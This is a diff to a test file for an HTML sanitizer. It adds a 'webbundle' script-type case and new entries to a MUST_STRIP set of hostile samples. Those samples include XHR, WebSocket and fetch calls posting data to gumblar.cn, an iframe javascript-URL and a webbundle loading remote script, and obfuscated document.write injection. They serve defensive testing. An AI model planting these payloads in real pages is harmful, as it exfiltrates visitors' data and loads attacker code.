@@ -191,6 +191,7 @@ def test_next_data_mention_names_the_host_and_list() -> None:
         ({"type": "Module"}, ScriptKind.MODULE),
         ({"type": "importmap"}, ScriptKind.IMPORTMAP),
         ({"type": "speculationrules"}, ScriptKind.SPECULATION_RULES),
+        ({"type": "webbundle"}, ScriptKind.WEBBUNDLE),
         ({"type": "application/json"}, ScriptKind.DATA),
         ({"type": "application/ld+json"}, ScriptKind.DATA),
         ({"type": "text/template"}, ScriptKind.DATA),
@@ -324,6 +325,8 @@ MUST_STRIP = {
     "xhr": "<script>var x=new XMLHttpRequest();x.open('POST','http://gumblar.cn/c');x.send(f)</script>",
     "websocket": "<script>new WebSocket('wss://gumblar.cn/c')</script>",
     "fetch-from-data": "<script>var cfg={u:'https://gumblar.cn/c'};fetch(cfg.u,{method:'POST'})</script>",
+    "javascript-url-result": "<iframe src=\"javascript:'<script src=//gumblar.cn/x.js></scr'+'ipt>'\"></iframe>",
+    "webbundle": '<script type="webbundle">{"source": "https://gumblar.cn/b.wbn", "resources": []}</script>',
     "signature-only": "<script>document.write('<scr'+'ipt src=http://127.0.0.1/x.js?217.107.218.147></scr'+'ipt>')</script>",
 }
 
